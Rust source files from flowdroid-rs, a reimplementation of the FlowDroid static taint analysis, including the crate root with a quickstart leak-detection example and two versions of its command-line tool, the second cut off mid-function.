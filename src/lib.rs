#![warn(missing_docs)]

//! # flowdroid-rs
//!
//! A from-scratch Rust reproduction of **FlowDroid** (Arzt et al.,
//! PLDI 2014): a context-, flow-, field- and object-sensitive,
//! lifecycle-aware static taint analysis for Android-like apps —
//! together with every substrate the paper depends on and the full
//! evaluation (DroidBench, SecuriBench Micro, InsecureBank, synthetic
//! app corpora, commercial-baseline models).
//!
//! ## Crate map
//!
//! | crate | role |
//! |-------|------|
//! | [`ir`] | Jimple-like three-address IR |
//! | [`frontend`] | `jasm` text language, XML/manifest/layout parsing, SDEX binary classes, RPK archives |
//! | [`android`] | platform stubs, component lifecycle, callback discovery, dummy-main generation |
//! | [`callgraph`] | CHA/RTA call graphs and the interprocedural CFG |
//! | [`ifds`] | generic IFDS tabulation solver |
//! | [`core`] | the taint analysis: bidirectional solvers, access paths, activation statements |
//! | [`baselines`] | AppScan-like / Fortify-like comparison models |
//! | [`droidbench`] | the DroidBench 1.0 suite and InsecureBank, with ground truth |
//! | [`securibench`] | SecuriBench-Micro-style generated suite |
//!
//! ## Quickstart
//!
//! ```
//! use flowdroid::prelude::*;
//!
//! // Build a program: platform stubs + an app authored in jasm.
//! let mut program = Program::new();
//! let platform = install_platform(&mut program);
//! let app = App::from_parts(
//!     &mut program,
//!     r#"<manifest package="demo">
//!          <application><activity android:name=".Main"/></application>
//!        </manifest>"#,
//!     &[],
//!     r#"
//! class demo.Main extends android.app.Activity {
//!   method onCreate(b: android.os.Bundle) -> void {
//!     let o: java.lang.Object
//!     let tm: android.telephony.TelephonyManager
//!     let id: java.lang.String
//!     o = virtualinvoke this.<android.content.Context: java.lang.Object getSystemService(java.lang.String)>("phone")
//!     tm = (android.telephony.TelephonyManager) o
//!     id = virtualinvoke tm.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()
//!     staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", id)
//!     return
//!   }
//! }
//! "#,
//! )
//! .unwrap();
//!
//! // Run the full lifecycle-aware analysis.
//! let sources = SourceSinkManager::default_android();
//! let wrapper = TaintWrapper::default_rules();
//! let config = InfoflowConfig::default();
//! let analysis = Infoflow::new(&sources, &wrapper, &config)
//!     .analyze_app(&mut program, &platform, &app, "quickstart");
//! assert_eq!(analysis.results.leak_count(), 1);
//! ```

pub use flowdroid_android as android;
pub use flowdroid_baselines as baselines;
pub use flowdroid_callgraph as callgraph;
pub use flowdroid_core as core;
pub use flowdroid_droidbench as droidbench;
pub use flowdroid_frontend as frontend;
pub use flowdroid_ifds as ifds;
pub use flowdroid_ir as ir;
pub use flowdroid_securibench as securibench;

/// The most common imports in one place.
pub mod prelude {
    pub use flowdroid_android::{install_platform, CallbackAssociation, EntryPointModel};
    pub use flowdroid_callgraph::{CallGraph, CgAlgorithm, Icfg};
    pub use flowdroid_core::{
        AppAnalysis, Infoflow, InfoflowConfig, InfoflowResults, Leak, SourceSinkManager,
        TaintWrapper,
    };
    pub use flowdroid_frontend::{parse_jasm, App, Archive};
    pub use flowdroid_ir::{MethodBuilder, Program, Type};
}
