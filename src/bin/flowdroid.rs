//! The `flowdroid` command-line tool.
//!
//! ```text
//! flowdroid analyze <app-dir | app.rpk> [options]   run the taint analysis
//! flowdroid serve --listen <addr> [options]         run the analysis daemon
//! flowdroid client <addr> <request> [options]       talk to a running daemon
//! flowdroid pack <app-dir> -o <app.rpk>             bundle an app directory
//! flowdroid disas <app-dir | app.rpk>               disassemble app code to jasm
//! flowdroid permissions <app-dir | app.rpk>         permission-gap report
//! flowdroid snapshot <platform.fdps>                write the platform snapshot
//! flowdroid droidbench                              run the DroidBench suite
//!
//! analyze options:
//!   --access-path-length <k>   bound access paths (default 5)
//!   --no-alias                 disable the on-demand alias analysis
//!   --global-callbacks         pool callbacks across components
//!   --sources <file>           extra source/sink definitions
//!   --wrappers <file>          extra taint-wrapper rules
//!   --no-paths                 skip leak-path reconstruction
//!   --taint-threads <n>        parallel taint engine with n workers
//!   --summary-cache <dir>      reuse method summaries across runs
//!   --deadline-ms <ms>         abort (partial result) after a wall-clock budget
//!   --max-propagations <n>     abort after n forward path-edge propagations
//!
//! Exit codes: 0 clean, 2 leaks found, 3 analysis aborted
//! (deadline/budget), 1 usage or load errors.
//! ```

use flowdroid::android::{install_platform, CallbackAssociation};
use flowdroid::prelude::*;
use std::path::Path;
use std::process::ExitCode;

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    match args.first().map(String::as_str) {
        Some("analyze") => analyze(&args[1..]),
        Some("serve") => serve(&args[1..]),
        Some("client") => client(&args[1..]),
        Some("pack") => pack(&args[1..]),
        Some("disas") => disas(&args[1..]),
        Some("permissions") => permissions(&args[1..]),
        Some("snapshot") => snapshot(&args[1..]),
        Some("droidbench") => droidbench(),
        Some("help") | Some("--help") | Some("-h") | None => {
            print_usage();
            ExitCode::SUCCESS
        }
        Some(other) => {
            eprintln!("unknown command `{other}`");
            print_usage();
            ExitCode::FAILURE
        }
    }
}

fn print_usage() {
    eprintln!("usage:");
    eprintln!("  flowdroid analyze <app-dir | app.rpk> [options]");
    eprintln!("  flowdroid serve --listen <addr> [--summary-cache <dir>] [--workers <n>]");
    eprintln!("                  [--queue-cap <n>] [--platform-snapshot <platform.fdps>]");
    eprintln!("                  [--allow-apps <dir>]...   serve on-disk app dirs / .rpk under <dir>");
    eprintln!("  flowdroid client <addr> analyze <app | app-dir | app.rpk>");
    eprintln!("                  [--deadline-ms <ms>] [--max-propagations <n>] [--taint-threads <n>]");
    eprintln!("                  [--priority high|normal|batch] [--namespace <ns>] [--stream]");
    eprintln!("  flowdroid client <addr> cancel <job> | stats | shutdown");
    eprintln!("  flowdroid pack <app-dir> -o <app.rpk>");
    eprintln!("  flowdroid disas <app-dir | app.rpk>");
    eprintln!("  flowdroid permissions <app-dir | app.rpk>");
    eprintln!("  flowdroid snapshot <platform.fdps>");
    eprintln!("  flowdroid droidbench");
    eprintln!();
    eprintln!("analyze options:");
    eprintln!("  --access-path-length <k>   bound access paths (default 5)");
    eprintln!("  --no-alias                 disable the on-demand alias analysis");
    eprintln!("  --global-callbacks         pool callbacks across components");
    eprintln!("  --sources <file>           extra source/sink definitions");
    eprintln!("  --wrappers <file>          extra taint-wrapper rules");
    eprintln!("  --no-paths                 skip leak-path reconstruction");
    eprintln!("  --taint-threads <n>        parallel taint engine with n workers");
    eprintln!("  --summary-cache <dir>      reuse method summaries across runs");
    eprintln!("  --deadline-ms <ms>         abort (partial result) after a wall-clock budget");
    eprintln!("  --max-propagations <n>     abort after n forward path-edge propagations");
    eprintln!();
    eprintln!("addresses are `host:port` for TCP or `unix:<path>` for a Unix socket;");
    eprintln!("`client analyze` takes a corpus name or, against a daemon started with");
    eprintln!("--allow-apps, a path to an app directory or packed .rpk under an allowed root;");
    eprintln!("exit codes: 0 clean, 2 leaks found, 3 analysis aborted, 4 rejected");
    eprintln!("            (queue full; retry later), 5 protocol error,");
    eprintln!("            6 denied by the --allow-apps path policy, 1 other errors");
}

fn analyze(args: &[String]) -> ExitCode {
    let Some(target) = args.first() else {
        eprintln!("analyze: missing app path");
        return ExitCode::FAILURE;
    };
    let mut config = InfoflowConfig::default();
    let mut sources = SourceSinkManager::default_android();
    let mut wrapper = TaintWrapper::default_rules();
    let mut i = 1;
    while i < args.len() {
        match args[i].as_str() {
            "--access-path-length" => {
                i += 1;
                let Some(k) = args.get(i).and_then(|v| v.parse().ok()) else {
                    eprintln!("--access-path-length needs a number");
                    return ExitCode::FAILURE;
                };
                config.max_access_path_length = k;
            }
            "--no-alias" => config.enable_alias_analysis = false,
            "--taint-threads" => {
                i += 1;
                let Some(n) = args.get(i).and_then(|v| v.parse().ok()) else {
                    eprintln!("--taint-threads needs a number");
                    return ExitCode::FAILURE;
                };
                config.taint_threads = n;
            }
            "--no-paths" => config.track_paths = false,
            "--deadline-ms" => {
                i += 1;
                let Some(ms) = args.get(i).and_then(|v| v.parse().ok()) else {
                    eprintln!("--deadline-ms needs a number of milliseconds");
                    return ExitCode::FAILURE;
                };
                config = config.with_deadline(std::time::Duration::from_millis(ms));
            }
            "--max-propagations" => {
                i += 1;
                let Some(n) = args.get(i).and_then(|v| v.parse().ok()) else {
                    eprintln!("--max-propagations needs a number");
                    return ExitCode::FAILURE;
                };
                config.max_propagations = n;
            }
            "--summary-cache" => {
                i += 1;
                let Some(dir) = args.get(i) else {
                    eprintln!("--summary-cache needs a directory");
                    return ExitCode::FAILURE;
                };
                config.summary_cache = Some(dir.into());
            }
            "--global-callbacks" => {
                config.callback_association = CallbackAssociation::Global;
            }
            "--sources" => {
                i += 1;
                let Some(path) = args.get(i) else {
                    eprintln!("--sources needs a file");
                    return ExitCode::FAILURE;
                };
                match std::fs::read_to_string(path) {
                    Ok(text) => {
                        if let Err(e) = sources.add_definitions(&text) {
                            eprintln!("{path}: {e}");
                            return ExitCode::FAILURE;
                        }
                    }
                    Err(e) => {
                        eprintln!("{path}: {e}");
                        return ExitCode::FAILURE;
                    }
                }
            }
            "--wrappers" => {
                i += 1;
                let Some(path) = args.get(i) else {
                    eprintln!("--wrappers needs a file");
                    return ExitCode::FAILURE;
                };
                match std::fs::read_to_string(path) {
                    Ok(text) => {
                        if let Err(e) = wrapper.add_rules(&text) {
                            eprintln!("{path}: {e}");
                            return ExitCode::FAILURE;
                        }
                    }
                    Err(e) => {
                        eprintln!("{path}: {e}");
                        return ExitCode::FAILURE;
                    }
                }
            }
            other => {
                eprintln!("analyze: unknown option `{other}` (run `flowdroid help` for usage)");
                return ExitCode::FAILURE;
            }
        }
        i += 1;
    }

    let mut program = Program::new();
    let platform = install_platform(&mut program);
    let path = Path::new(target);
    let app = if path.is_dir() {
        flowdroid::frontend::App::from_dir(&mut program, path)
    } else {
        match std::fs::read(path) {
            Ok(bytes) => match Archive::from_bytes(&bytes) {
                Ok(archive) => flowdroid::frontend::App::from_archive(&mut program, &archive),
                Err(e) => {
                    eprintln!("{target}: {e}");
                    return ExitCode::FAILURE;
                }
            },
            Err(e) => {
                eprintln!("{target}: {e}");
                return ExitCode::FAILURE;
            }
        }
    };
    let app = match app {
        Ok(a) => a,
        Err(e) => {
            eprintln!("{target}: {e}");
            return ExitCode::FAILURE;
        }
    };
    println!(
        "loaded {} ({} classes, {} components, {} layouts)",
        app.manifest.package,
        app.classes.len(),
        app.manifest.components.len(),
        app.layouts.len()
    );
    let analysis = Infoflow::new(&sources, &wrapper, &config)
        .analyze_app(&mut program, &platform, &app, "cli");
    print!("{}", analysis.results.report(&program));
    if let Some(dir) = &config.summary_cache {
        if let Err(e) = flowdroid_core::flush_summary_cache(dir) {
            eprintln!("summary cache {}: {e}", dir.display());
        }
    }
    if analysis.results.aborted {
        let why = analysis.results.abort_reason.map_or("budget", |r| r.as_str());
        eprintln!("analysis aborted ({why}); reported leaks are a lower bound");
        ExitCode::from(3)
    } else if analysis.results.is_clean() {
        ExitCode::SUCCESS
    } else {
        // Like grep: finding something exits 0; we still signal leaks
        // via a distinct code for scripting.
        ExitCode::from(2)
    }
}

/// `flowdroid serve --listen <addr> [--summary-cache <dir>] [--workers <n>]
/// [--queue-cap <n>] [--platform-snapshot <platform.fdps>]
/// [--allow-apps <dir>]...`
fn serve(args: &[String]) -> ExitCode {
    use flowdroid_service::{Daemon, DaemonOptions, Listen, DEFAULT_QUEUE_CAP};
    let mut listen = None;
    let mut workers = 0usize;
    let mut queue_cap = DEFAULT_QUEUE_CAP;
    let mut summary_cache = None;
    let mut platform_snapshot = None;
    let mut allow_apps = Vec::new();
    let mut i = 0;
    while i < args.len() {
        match args[i].as_str() {
            "--queue-cap" => {
                i += 1;
                let Some(n) = args.get(i).and_then(|v| v.parse().ok()) else {
                    eprintln!("--queue-cap needs a number (0 = unbounded)");
                    return ExitCode::FAILURE;
                };
                queue_cap = n;
            }
            "--listen" => {
                i += 1;
                let Some(addr) = args.get(i) else {
                    eprintln!("--listen needs an address (host:port or unix:<path>)");
                    return ExitCode::FAILURE;
                };
                listen = Some(Listen::parse(addr));
            }
            "--workers" => {
                i += 1;
                let Some(n) = args.get(i).and_then(|v| v.parse().ok()) else {
                    eprintln!("--workers needs a number");
                    return ExitCode::FAILURE;
                };
                workers = n;
            }
            "--summary-cache" => {
                i += 1;
                let Some(dir) = args.get(i) else {
                    eprintln!("--summary-cache needs a directory");
                    return ExitCode::FAILURE;
                };
                summary_cache = Some(dir.into());
            }
            "--platform-snapshot" => {
                i += 1;
                let Some(path) = args.get(i) else {
                    eprintln!("--platform-snapshot needs a platform.fdps path");
                    return ExitCode::FAILURE;
                };
                platform_snapshot = Some(path.into());
            }
            "--allow-apps" => {
                i += 1;
                let Some(dir) = args.get(i) else {
                    eprintln!("--allow-apps needs a directory (repeatable)");
                    return ExitCode::FAILURE;
                };
                allow_apps.push(dir.into());
            }
            other => {
                eprintln!("serve: unknown option `{other}` (run `flowdroid help` for usage)");
                return ExitCode::FAILURE;
            }
        }
        i += 1;
    }
    let Some(listen) = listen else {
        eprintln!("serve: missing --listen <addr>");
        return ExitCode::FAILURE;
    };
    let daemon = match Daemon::bind(DaemonOptions {
        listen,
        workers,
        queue_cap,
        summary_cache,
        platform_snapshot,
        allow_apps,
    }) {
        Ok(d) => d,
        Err(e) => {
            eprintln!("serve: {e}");
            return ExitCode::FAILURE;
        }
    };
    // Scripts parse this line for the resolved address (`:0` binds an
    // ephemeral port).
    println!("listening on {}", daemon.local_addr());
    use std::io::Write as _;
    let _ = std::io::stdout().flush();
    match daemon.run() {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("serve: {e}");
            ExitCode::FAILURE
        }
    }
}

/// `flowdroid client <addr> analyze|cancel|stats|shutdown ...` — one
/// request per invocation; response lines go to stdout as raw JSON.
fn client(args: &[String]) -> ExitCode {
    use flowdroid_service::{Client, Request};
    let (Some(addr), Some(op)) = (args.first(), args.get(1)) else {
        eprintln!("usage: flowdroid client <addr> analyze <app> [options] | cancel <job> | stats | shutdown");
        return ExitCode::FAILURE;
    };
    let mut c = match Client::connect(addr) {
        Ok(c) => c,
        Err(e) => {
            eprintln!("client: {addr}: {e}");
            return ExitCode::FAILURE;
        }
    };
    let fail = |e: std::io::Error| {
        eprintln!("client: {e}");
        ExitCode::FAILURE
    };
    match op.as_str() {
        "analyze" => {
            let Some(app) = args.get(2) else {
                eprintln!("client analyze: missing app name (e.g. insecurebank)");
                return ExitCode::FAILURE;
            };
            let mut deadline_ms = None;
            let mut max_propagations = None;
            let mut taint_threads = None;
            let mut priority = flowdroid_service::Priority::Normal;
            let mut namespace = String::new();
            let mut stream = false;
            let mut i = 3;
            while i < args.len() {
                let take_num = |i: &mut usize| -> Option<u64> {
                    *i += 1;
                    args.get(*i).and_then(|v| v.parse().ok())
                };
                match args[i].as_str() {
                    "--priority" => {
                        i += 1;
                        let parsed =
                            args.get(i).and_then(|v| flowdroid_service::Priority::parse(v));
                        match parsed {
                            Some(p) => priority = p,
                            None => {
                                eprintln!("--priority needs one of: high, normal, batch");
                                return ExitCode::FAILURE;
                            }
                        }
                    }
                    "--namespace" => {
                        i += 1;
                        let Some(ns) = args.get(i) else {
                            eprintln!("--namespace needs a name ([A-Za-z0-9._-], <= 64 bytes)");
                            return ExitCode::FAILURE;
                        };
                        namespace = ns.to_string();
                    }
                    "--stream" => stream = true,
                    "--deadline-ms" => match take_num(&mut i) {
                        Some(n) => deadline_ms = Some(n),
                        None => {
                            eprintln!("--deadline-ms needs a number of milliseconds");
                            return ExitCode::FAILURE;
                        }
                    },
                    "--max-propagations" => match take_num(&mut i) {
                        Some(n) => max_propagations = Some(n),
                        None => {
                            eprintln!("--max-propagations needs a number");
                            return ExitCode::FAILURE;
                        }
                    },
                    "--taint-threads" => match take_num(&mut i) {
                        Some(n) => taint_threads = Some(n),
                        None => {
                            eprintln!("--taint-threads needs a number");
                            return ExitCode::FAILURE;
                        }
                    },
                    other => {
                        eprintln!(
                            "client analyze: unknown option `{other}` (run `flowdroid help` for usage)"
                        );
                        return ExitCode::FAILURE;
                    }
                }
                i += 1;
            }
            let send = c.send(&Request::Analyze(flowdroid_service::AnalyzeRequest {
                app: app.to_string(),
                deadline_ms,
                max_propagations,
                taint_threads,
                priority,
                namespace,
                stream,
            }));
            if let Err(e) = send {
                return fail(e);
            }
            // Stream lines as they arrive: the `queued` line lets
            // scripts learn the job id while the job runs, and with
            // --stream every `progress`/`leak` frame is printed as it
            // lands, ahead of the terminal `result` line.
            use std::io::Write as _;
            loop {
                match c.read_response() {
                    Ok(v) => {
                        println!("{}", v.to_line());
                        let _ = std::io::stdout().flush();
                        match v.str_field("type") {
                            Some("result") => {
                                return if v.bool_field("aborted") == Some(true) {
                                    ExitCode::from(3)
                                } else if v.u64_field("leaks").unwrap_or(0) > 0 {
                                    ExitCode::from(2)
                                } else {
                                    ExitCode::SUCCESS
                                };
                            }
                            // Backpressure: nothing was enqueued;
                            // callers should retry later.
                            Some("rejected") => return ExitCode::from(4),
                            // Path policy: the daemon does not serve
                            // this path; retrying is pointless.
                            Some("denied") => return ExitCode::from(6),
                            _ => {}
                        }
                    }
                    // A broken frame stream or truncated reply is a
                    // protocol error, distinct from analysis failure.
                    Err(e) => {
                        eprintln!("client: {e}");
                        return ExitCode::from(5);
                    }
                }
            }
        }
        "cancel" => {
            let Some(job) = args.get(2).and_then(|v| v.parse().ok()) else {
                eprintln!("client cancel: missing job id");
                return ExitCode::FAILURE;
            };
            match c.cancel(job) {
                Ok(v) => {
                    println!("{}", v.to_line());
                    ExitCode::SUCCESS
                }
                Err(e) => fail(e),
            }
        }
        "stats" => match c.stats() {
            Ok(v) => {
                // Raw line first: scripts grep it for exact fields.
                println!("{}", v.to_line());
                let f = |name| v.u64_field(name).unwrap_or(0);
                println!(
                    "callgraph cache: {} hit(s), {} miss(es), {} eviction(s), \
                     {} invalidation(s), {} resident",
                    f("callgraph_cache_hits"),
                    f("callgraph_cache_misses"),
                    f("callgraph_cache_evictions"),
                    f("callgraph_cache_invalidations"),
                    f("callgraph_cache_entries"),
                );
                println!(
                    "platform clone: {}us total across {} completed job(s)",
                    f("platform_clone_us"),
                    f("completed"),
                );
                ExitCode::SUCCESS
            }
            Err(e) => fail(e),
        },
        "shutdown" => match c.shutdown() {
            Ok(v) => {
                println!("{}", v.to_line());
                ExitCode::SUCCESS
            }
            Err(e) => fail(e),
        },
        other => {
            eprintln!("client: unknown request `{other}` (analyze, cancel, stats, shutdown)");
            ExitCode::FAILURE
        }
    }
}

fn load_app(target: &str, program: &mut Program) -> Result<flowdroid::frontend::App, String> {
    let path = Path::new(target);
    if path.is_dir() {
        flowdroid::frontend::App::from_dir(program, path).map_err(|e| format!("{target}: {e}"))
    } else {
        let bytes = std::fs::read(path).map_err(|e| format!("{target}: {e}"))?;
        let archive = Archive::from_bytes(&bytes).map_err(|e| format!("{target}: {e}"))?;
        flowdroid::frontend::App::from_archive(program, &archive)
            .map_err(|e| format!("{target}: {e}"))
    }
}

fn disas(args: &[String]) -> ExitCode {
    let Some(target) = args.first() else {
        eprintln!("disas: missing app path");
        return ExitCode::FAILURE;
    };
    let mut program = Program::new();
    install_platform(&mut program);
    match load_app(target, &mut program) {
        Ok(app) => {
            print!("{}", flowdroid::frontend::emit_jasm(&program, &app.classes));
            ExitCode::SUCCESS
        }
        Err(e) => {
            eprintln!("{e}");
            ExitCode::FAILURE
        }
    }
}

fn permissions(args: &[String]) -> ExitCode {
    let Some(target) = args.first() else {
        eprintln!("permissions: missing app path");
        return ExitCode::FAILURE;
    };
    let mut program = Program::new();
    let platform = install_platform(&mut program);
    let app = match load_app(target, &mut program) {
        Ok(a) => a,
        Err(e) => {
            eprintln!("{e}");
            return ExitCode::FAILURE;
        }
    };
    let report =
        flowdroid::android::analyze_permissions(&mut program, &platform, &app, "cli-perm");
    println!("required by reachable code:");
    for p in &report.required {
        println!("  {p}");
    }
    println!("declared in the manifest:");
    for p in &report.declared {
        println!("  {p}");
    }
    let over = report.over_privileged();
    if over.is_empty() {
        println!("no over-privilege.");
    } else {
        println!("over-privileged (declared but unused):");
        for p in &over {
            println!("  {p}");
        }
    }
    let missing = report.missing();
    if !missing.is_empty() {
        println!("missing (needed but not declared):");
        for p in &missing {
            println!("  {p}");
        }
    }
    ExitCode::SUCCESS
}

/// `flowdroid snapshot <platform.fdps>` — build the Android platform
/// model once and write it as a versioned, checksummed snapshot the
/// daemon can boot from (`serve --platform-snapshot`).
fn snapshot(args: &[String]) -> ExitCode {
    let Some(path) = args.first() else {
        eprintln!("usage: flowdroid snapshot <platform.fdps>");
        return ExitCode::FAILURE;
    };
    let snap = flowdroid::android::build_snapshot();
    match flowdroid::android::save_snapshot(Path::new(path), &snap) {
        Ok(()) => {
            println!(
                "wrote {path}: {} classes, {} methods",
                snap.base.class_count(),
                snap.base.method_count()
            );
            ExitCode::SUCCESS
        }
        Err(e) => {
            eprintln!("snapshot: {path}: {e}");
            ExitCode::FAILURE
        }
    }
}

fn pack(args: &[String]) -> ExitCode {
    let (dir, out) = match args {
        [dir, flag, out] if flag == "-o" => (dir, out),
        _ => {
            eprintln!("usage: flowdroid pack <app-dir> -o <app.rpk>");
            return ExitCode::FAILURE;
        }
    };
    let dir = Path::new(dir);
    let mut archive = Archive::new();
    let manifest = dir.join("AndroidManifest.xml");
    match std::fs::read(&manifest) {
        Ok(bytes) => {
            archive.add("AndroidManifest.xml", bytes);
        }
        Err(e) => {
            eprintln!("{}: {e}", manifest.display());
            return ExitCode::FAILURE;
        }
    }
    let layouts = dir.join("res/layout");
    if layouts.is_dir() {
        let entries = match std::fs::read_dir(&layouts) {
            Ok(e) => e,
            Err(e) => {
                eprintln!("{}: {e}", layouts.display());
                return ExitCode::FAILURE;
            }
        };
        for entry in entries.flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            if name.ends_with(".xml") {
                if let Ok(bytes) = std::fs::read(entry.path()) {
                    archive.add(format!("res/layout/{name}"), bytes);
                }
            }
        }
    }
    for code in ["classes.jasm", "classes.sdex"] {
        let p = dir.join(code);
        if p.is_file() {
            if let Ok(bytes) = std::fs::read(&p) {
                archive.add(code, bytes);
            }
        }
    }
    match std::fs::write(out, archive.to_bytes()) {
        Ok(()) => {
            println!("packed {} entries into {out}", archive.len());
            ExitCode::SUCCESS
        }
        Err(e) => {
            eprintln!("{out}: {e}");
            ExitCode::FAILURE
        }
    }
}

fn droidbench() -> ExitCode {
    use flowdroid::droidbench::{all_apps, AppScore, ScoreBoard};
    let mut board = ScoreBoard::new();
    for app in all_apps().iter().filter(|a| a.in_table) {
        let mut program = Program::new();
        let platform = install_platform(&mut program);
        let loaded = app.load(&mut program).expect("suite app");
        let sources = SourceSinkManager::default_android();
        let wrapper = TaintWrapper::default_rules();
        let config = InfoflowConfig::default();
        let analysis = Infoflow::new(&sources, &wrapper, &config)
            .analyze_app(&mut program, &platform, &loaded, "cli");
        let found = analysis.results.leak_count();
        let score = AppScore::from_counts(app.expected_leaks, found);
        println!(
            "{:<28} expected {} reported {} ({}✓ {}☆ {}○)",
            app.name, app.expected_leaks, found, score.tp, score.fp, score.fn_
        );
        board.record(&format!("{:?}", app.category), score);
    }
    let total = board.total();
    println!("\n{}", board.render());
    println!(
        "precision {:.0}%  recall {:.0}%  F {:.2}",
        total.precision() * 100.0,
        total.recall() * 100.0,
        total.f_measure()
    );
    ExitCode::SUCCESS
}
