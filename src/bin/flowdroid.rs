//! The `flowdroid` command-line tool.
//!
//! ```text
//! flowdroid analyze <app-dir | app.rpk> [options]   run the taint analysis
//! flowdroid pack <app-dir> -o <app.rpk>             bundle an app directory
//! flowdroid disas <app-dir | app.rpk>               disassemble app code to jasm
//! flowdroid permissions <app-dir | app.rpk>         permission-gap report
//! flowdroid droidbench                              run the DroidBench suite
//!
//! analyze options:
//!   --access-path-length <k>   bound access paths (default 5)
//!   --no-alias                 disable the on-demand alias analysis
//!   --global-callbacks         pool callbacks across components
//!   --sources <file>           extra source/sink definitions
//!   --wrappers <file>          extra taint-wrapper rules
//!   --no-paths                 skip leak-path reconstruction
//!   --summary-cache <dir>      reuse method summaries across runs
//! ```

use flowdroid::android::{install_platform, CallbackAssociation};
use flowdroid::prelude::*;
use std::path::Path;
use std::process::ExitCode;

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    match args.first().map(String::as_str) {
        Some("analyze") => analyze(&args[1..]),
        Some("pack") => pack(&args[1..]),
        Some("disas") => disas(&args[1..]),
        Some("permissions") => permissions(&args[1..]),
        Some("droidbench") => droidbench(),
        Some("help") | Some("--help") | Some("-h") | None => {
            print_usage();
            ExitCode::SUCCESS
        }
        Some(other) => {
            eprintln!("unknown command `{other}`");
            print_usage();
            ExitCode::FAILURE
        }
    }
}

fn print_usage() {
    eprintln!("usage:");
    eprintln!("  flowdroid analyze <app-dir | app.rpk> [options]");
    eprintln!("  flowdroid pack <app-dir> -o <app.rpk>");
    eprintln!("  flowdroid disas <app-dir | app.rpk>");
    eprintln!("  flowdroid permissions <app-dir | app.rpk>");
    eprintln!("  flowdroid droidbench");
    eprintln!();
    eprintln!("analyze options:");
    eprintln!("  --access-path-length <k>   bound access paths (default 5)");
    eprintln!("  --no-alias                 disable the on-demand alias analysis");
    eprintln!("  --global-callbacks         pool callbacks across components");
    eprintln!("  --sources <file>           extra source/sink definitions");
    eprintln!("  --wrappers <file>          extra taint-wrapper rules");
    eprintln!("  --no-paths                 skip leak-path reconstruction");
    eprintln!("  --taint-threads <n>        parallel taint engine with n workers");
    eprintln!("  --summary-cache <dir>      reuse method summaries across runs");
}

fn analyze(args: &[String]) -> ExitCode {
    let Some(target) = args.first() else {
        eprintln!("analyze: missing app path");
        return ExitCode::FAILURE;
    };
    let mut config = InfoflowConfig::default();
    let mut sources = SourceSinkManager::default_android();
    let mut wrapper = TaintWrapper::default_rules();
    let mut i = 1;
    while i < args.len() {
        match args[i].as_str() {
            "--access-path-length" => {
                i += 1;
                let Some(k) = args.get(i).and_then(|v| v.parse().ok()) else {
                    eprintln!("--access-path-length needs a number");
                    return ExitCode::FAILURE;
                };
                config.max_access_path_length = k;
            }
            "--no-alias" => config.enable_alias_analysis = false,
            "--taint-threads" => {
                i += 1;
                let Some(n) = args.get(i).and_then(|v| v.parse().ok()) else {
                    eprintln!("--taint-threads needs a number");
                    return ExitCode::FAILURE;
                };
                config.taint_threads = n;
            }
            "--no-paths" => config.track_paths = false,
            "--summary-cache" => {
                i += 1;
                let Some(dir) = args.get(i) else {
                    eprintln!("--summary-cache needs a directory");
                    return ExitCode::FAILURE;
                };
                config.summary_cache = Some(dir.into());
            }
            "--global-callbacks" => {
                config.callback_association = CallbackAssociation::Global;
            }
            "--sources" => {
                i += 1;
                let Some(path) = args.get(i) else {
                    eprintln!("--sources needs a file");
                    return ExitCode::FAILURE;
                };
                match std::fs::read_to_string(path) {
                    Ok(text) => {
                        if let Err(e) = sources.add_definitions(&text) {
                            eprintln!("{path}: {e}");
                            return ExitCode::FAILURE;
                        }
                    }
                    Err(e) => {
                        eprintln!("{path}: {e}");
                        return ExitCode::FAILURE;
                    }
                }
            }
            "--wrappers" => {
                i += 1;
                let Some(path) = args.get(i) else {
                    eprintln!("--wrappers needs a file");
                    return ExitCode::FAILURE;
                };
                match std::fs::read_to_string(path) {
                    Ok(text) => {
                        if let Err(e) = wrapper.add_rules(&text) {
                            eprintln!("{path}: {e}");
                            return ExitCode::FAILURE;
                        }
                    }
                    Err(e) => {
                        eprintln!("{path}: {e}");
                        return ExitCode::FAILURE;
                    }
                }
            }
            other => {
                eprintln!("analyze: unknown option `{other}`");
                return ExitCode::FAILURE;
            }
        }
        i += 1;
    }

    let mut program = Program::new();
    let platform = install_platform(&mut program);
    let path = Path::new(target);
    let app = if path.is_dir() {
        flowdroid::frontend::App::from_dir(&mut program, path)
    } else {
        match std::fs::read(path) {
            Ok(bytes) => match Archive::from_bytes(&bytes) {
                Ok(archive) => flowdroid::frontend::App::from_archive(&mut program, &archive),
                Err(e) => {
                    eprintln!("{target}: {e}");
                    return ExitCode::FAILURE;
                }
            },
            Err(e) => {
                eprintln!("{target}: {e}");
                return ExitCode::FAILURE;
            }
        }
    };
    let app = match app {
        Ok(a) => a,
        Err(e) => {
            eprintln!("{target}: {e}");
            return ExitCode::FAILURE;
        }
    };
    println!(
        "loaded {} ({} classes, {} components, {} layouts)",
        app.manifest.package,
        app.classes.len(),
        app.manifest.components.len(),
        app.layouts.len()
    );
    let analysis = Infoflow::new(&sources, &wrapper, &config)
        .analyze_app(&mut program, &platform, &app, "cli");
    print!("{}", analysis.results.report(&program));
    if let Some(dir) = &config.summary_cache {
        if let Err(e) = flowdroid_core::flush_summary_cache(dir) {
            eprintln!("summary cache {}: {e}", dir.display());
        }
    }
    if analysis.results.is_clean() {
        ExitCode::SUCCESS
    } else {
        // Like grep: finding something exits 0; we still signal leaks
        // via a distinct code for scripting.
        ExitCode::from(2)
    }
}

fn load_app(target: &str, program: &mut Program) -> Result<flowdroid::frontend::App, String> {
    let path = Path::new(target);
    if path.is_dir() {
        flowdroid::frontend::App::from_dir(program, path).map_err(|e| format!("{target}: {e}"))
    } else {
        let bytes = std::fs::read(path).map_err(|e| format!("{target}: {e}"))?;
        let archive = Archive::from_bytes(&bytes).map_err(|e| format!("{target}: {e}"))?;
        flowdroid::frontend::App::from_archive(program, &archive)
            .map_err(|e| format!("{target}: {e}"))
    }
}

fn disas(args: &[String]) -> ExitCode {
    let Some(target) = args.first() else {
        eprintln!("disas: missing app path");
        return ExitCode::FAILURE;
    };
    let mut program = Program::new();
    install_platform(&mut program);
    match load_app(target, &mut program) {
        Ok(app) => {
            print!("{}", flowdroid::frontend::emit_jasm(&program, &app.classes));
